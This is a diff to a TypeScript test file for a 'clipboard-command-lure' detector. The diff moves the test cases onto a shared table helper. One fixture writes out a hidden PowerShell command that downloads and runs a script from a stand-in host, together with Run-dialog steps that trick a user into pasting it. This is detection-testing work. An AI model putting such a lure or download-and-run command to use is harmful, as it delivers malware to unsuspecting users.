@@ -1,18 +1,11 @@
-import { describe, test } from 'node:test';
-import assert from 'node:assert/strict';
-import { inspectSource } from '../../src/analyze/pipeline.ts';
+import { detectorTable, type DetectorCase } from './detector-table.ts';
 
 const ID = 'clipboard-command-lure';
-
-/** Severity of the detector's finding, or null when it stays quiet. */
-function severityOf(code: string): string | null {
-  return inspectSource(code).findings.find((finding) => finding.detector === ID)?.severity ?? null;
-}
 
 const STEPS = "box.innerHTML = '<ol><li>Press <b>Win</b> + <b>R</b></li><li>Press <b>Ctrl</b> + <b>V</b></li><li>Press Enter</li></ol>';";
 
 // [what the case shows, code, expected severity (null: no finding)]
-const table: [string, string, string | null][] = [
+const table: DetectorCase[] = [
   ['a hidden PowerShell download-and-run put on the clipboard from a fake checkbox, with Run-dialog steps',
     `var cmd = 'powershell -w hidden -c "iex (iwr https://verify.example/a.ps1)"';
      ${STEPS}
@@ -56,8 +49,4 @@ const table: [string, string, string | null][] = [
     null],
 ];
 
-describe(ID, () => {
-  for (const [what, code, expected] of table) {
-    test(`${what}: ${expected ?? 'no finding'}`, () => assert.equal(severityOf(code), expected));
-  }
-});
+detectorTable(ID, table);
